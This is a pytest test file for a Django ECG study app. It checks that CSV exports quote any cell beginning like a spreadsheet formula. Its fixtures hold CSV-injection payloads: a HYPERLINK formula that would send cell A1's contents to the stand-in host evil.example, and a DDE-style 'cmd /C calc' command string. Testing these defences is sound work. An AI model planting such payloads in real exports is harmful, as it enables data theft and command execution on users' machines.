"""Text that looks like a spreadsheet formula leaves every CSV export as text."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from ecgstudy.analysis.exports import spreadsheet_safe
from ecgstudy.pool.models import EcgRecord
from ecgstudy.studies.models import Assignment, Reader
from ecgstudy.studies.services import Answers, judgment_submit

COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
STUDY_NAME = "+cmd|' /C calc'!A0"
SITE = "@SUM(1)"
LABEL = "-1+2"
EXPERIENCE = "\tresident"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "'-0.5"),  # text that looks like a number is still text
        ("plain, text", "plain, text"),
        ("a=b", "a=b"),
        ("", ""),
        (-0.5, -0.5),  # a number stays a number
        (3, 3),
        (None, None),
        (True, True),
    ],
)
def test_only_text_that_starts_like_a_formula_is_quoted(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.fixture
def hostile_study(launched_study):
    """A study whose name, readers, labels and comments all start like formulas."""
    launched_study.name = STUDY_NAME
    launched_study.save(update_fields=["name"])
    Reader.objects.filter(participations__study=launched_study).update(
        site=SITE, experience=EXPERIENCE
    )
    EcgRecord.objects.filter(study_cases__study=launched_study).update(
        labels=[LABEL, "=cmd"]
    )
    for assignment in Assignment.objects.filter(participation__study=launched_study):
        judgment_submit(
            assignment=assignment,
            answers=Answers(
                origin="real", confidence=3, diagnosis=("AF",), comment=COMMENT
            ),
        )
    return launched_study


def assert_neutralised(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        assert row["study"] == "'" + STUDY_NAME
        assert row["site"] == "'" + SITE
        assert row["experience"] == "'" + EXPERIENCE
        assert row["labels"] == "'" + LABEL + "; =cmd"
        assert row["comment"] == "'" + COMMENT
        # Numbers and plain text are written as they were.
        assert row["confidence"] == "3" and row["round"] in {"1", "2"}
        assert row["diagnosis"] == "AF" and row["origin"] in {"real", "synthetic"}
        assert row["reader"] in {"R01", "R02"}
        # No cell of the file starts like a formula.
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_admin_csv_download_neutralises_formulas(researcher_client, hostile_study):
    url = reverse("admin:studies_study_report_file", args=[hostile_study.pk, "csv"])
    response = researcher_client.get(url)
    assert response.status_code == 200
    assert_neutralised(response.content.decode())


def test_the_study_report_command_csv_neutralises_formulas(hostile_study, tmp_path):
    out = tmp_path / "judgments.csv"
    call_command("study_report", str(hostile_study.pk), format="csv", out=out)
    assert_neutralised(out.read_text(encoding="utf-8"))
